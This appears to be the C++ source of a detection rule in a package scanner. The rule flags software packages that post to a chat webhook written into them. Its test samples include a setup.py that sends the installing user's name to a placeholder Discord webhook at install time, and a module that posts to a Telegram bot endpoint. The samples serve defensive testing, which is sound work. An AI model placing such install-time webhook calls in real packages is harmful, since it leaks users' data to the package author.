#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

bool carries_something(const Action& action) {
  return outflow(action).any(secrets | identity | stores | Source::local_file |
                             Source::command_output | Source::listing | Source::environment);
}

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || !is_shipped(action)) continue;
    if (destination_of(action.target).kind != HostKind::chat_webhook) continue;
    const bool is_theft = runs_uncalled(action) || carries_something(action);
    findings.add(is_theft ? Severity::critical : Severity::high, action.where,
                 sentence("posts to the chat webhook " + shown_target(action), action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule contacts_chat_webhook = {
    .id = "contacts-chat-webhook",
    .title = "The package posts to a chat webhook that is written into it",
    .why =
        "An address with its token inside posts into one chat: the author's. Stealers send "
        "what they find there, because the traffic looks like a chat client's.",
    .harmless_when =
        "The webhook belongs to the user, who put it into a configuration; then it "
        "is not in the package.",
    .severity = Severity::high,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a setup script announces the victim",
     .expect = "setup.py:5",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
import getpass
import requests
user = getpass.getuser()
requests.post("https://discord.com/api/webhooks/0/widget", json={"content": user})
setup(name="widget", version="1.0.0")
)"},
    {.name = "a bot token is written into a module",
     .expect = "index.js:2",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const axios = require("axios");
exports.tell = (text) => axios.post("https://api.telegram.org/bot0:widget/sendMessage", {text});
)"},
    {.name = "a library takes the webhook from its user",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const axios = require("axios");
exports.tell = (id, token, text) =>
  axios.post(`https://discord.com/api/webhooks/${id}/${token}`, {content: text});
)"},
};
extern const std::span<const Sample> contacts_chat_webhook_samples = samples;
#endif

}  // namespace assay::rules
